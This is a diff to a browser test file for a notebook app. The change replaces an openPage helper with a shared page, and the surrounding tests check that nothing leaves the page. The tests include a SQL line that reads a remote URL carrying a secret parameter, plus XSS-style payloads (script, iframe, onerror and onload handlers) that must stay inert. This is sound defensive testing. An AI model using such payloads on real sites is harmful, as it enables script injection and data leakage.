@@ -1,5 +1,8 @@
 import { describe, expect, test } from "vitest";
-import { dropFiles, openPage } from "./open-page";
+import { dropFiles } from "./open-page";
+import { sharedPage } from "./shared-page";
+
+const newNotebook = sharedPage();
 
 const attempts = [
   "select * from read_csv('https://example.com/leak.csv?secret=1')",
@@ -12,7 +15,7 @@ const attempts = [
 
 describe("nothing leaves", () => {
   test("SQL cannot reach any address or file", async () => {
-    const { page, foreign } = await openPage();
+    const { page, foreign } = await newNotebook();
     await dropFiles(page, { name: "events.csv", text: "user,time\n1,2024-01-01\n2,2024-01-02\n" });
     await page.getByRole("heading", { name: /^events/ }).waitFor();
     for (const attempt of attempts) {
@@ -28,7 +31,7 @@ describe("nothing leaves", () => {
   });
 
   test("a notebook's text and saved results load nothing and run nothing", async () => {
-    const { page, foreign, errors } = await openPage();
+    const { page, foreign, errors } = await newNotebook();
     const hostile = `# hi <img src="https://example.com/a.png" onerror="window.broken=1">
 ![x](https://example.com/b.png) <script>window.broken=1</script> <iframe src="https://example.com"></iframe>
 <style>body{background:url(https://example.com/c.png)}</style> <svg onload="window.broken=1"></svg>
@@ -64,7 +67,7 @@ describe("nothing leaves", () => {
   });
 
   test("the page's rules hold: fetch, image and socket to elsewhere are refused", async () => {
-    const { page } = await openPage();
+    const { page } = await newNotebook();
     const refused = await page.evaluate(async () => {
       const violations: string[] = [];
       document.addEventListener("securitypolicyviolation", (event) =>
